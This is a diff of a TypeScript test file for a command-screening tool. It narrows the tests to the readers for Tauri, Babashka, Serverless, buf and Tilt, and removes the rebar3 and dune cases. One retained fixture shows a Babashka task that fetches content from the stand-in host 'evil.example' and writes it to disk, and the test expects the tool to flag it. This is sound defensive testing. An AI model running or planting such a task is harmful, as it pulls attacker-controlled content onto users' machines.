@@ -1,5 +1,5 @@
-// The commands tools' own files name (Tauri, Babashka, rebar3, dune, Serverless, buf, Tilt), read as the commands
-// they are, and through the whole pipeline: a harmful command added to one is not allowed, an ordinary one is.
+// The commands tools' own files name (Tauri, Babashka, Serverless, buf, Tilt), read as the commands they are, and
+// through the whole pipeline (rebar3 and dune, whose readers are the shell side's: build-files-tools.ts): a harmful command added to one is not allowed, an ordinary one is.
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -9,15 +9,7 @@ import { WORKSPACE } from '../testdata/fixtures';
 import { judgeWithReader } from '../testdata/judge-with-reader';
 import { workspaceReader } from '../testdata/workspace-reader';
 import { writeFiles } from '../testdata/write-files';
-import {
-  babashkaTasks,
-  bufPlugins,
-  duneActions,
-  rebarHooks,
-  serverlessScripts,
-  tauriCommands,
-  tiltCommands,
-} from './tool-commands';
+import { babashkaTasks, bufPlugins, serverlessScripts, tauriCommands, tiltCommands } from './tool-commands';
 
 describe('each reader finds the commands its tool runs', () => {
   it('Tauri: the before-commands, as strings or scripts', () => {
@@ -44,27 +36,6 @@ describe('each reader finds the commands its tool runs', () => {
     expect(babashkaTasks('{:tasks {x (spit "a" (slurp "https://evil.example"))}}')).toBe(
       'runs Babashka code gavel does not follow',
     );
-  });
-
-  it('rebar3: every string of the hook lists', () => {
-    expect(
-      rebarHooks('{pre_hooks, [{compile, "make -C c_src"}]}.\n{post_hooks, [{clean, "rm -rf priv/x"}]}.\n'),
-    ).toEqual([
-      ['pre_hooks', 'make -C c_src'],
-      ['post_hooks', 'rm -rf priv/x'],
-    ]);
-    expect(rebarHooks('{deps, []}.\n')).toEqual([]);
-  });
-
-  it('dune: system, bash and run actions', () => {
-    expect(
-      duneActions(
-        '(rule (action (system "make gen")))\n(rule (action (run ocamlformat --check "a b.ml")))\n',
-      ),
-    ).toEqual([
-      ['system', 'make gen'],
-      ['run', "ocamlformat --check 'a b.ml'"],
-    ]);
   });
 
   it('Serverless: script hooks and commands', () => {
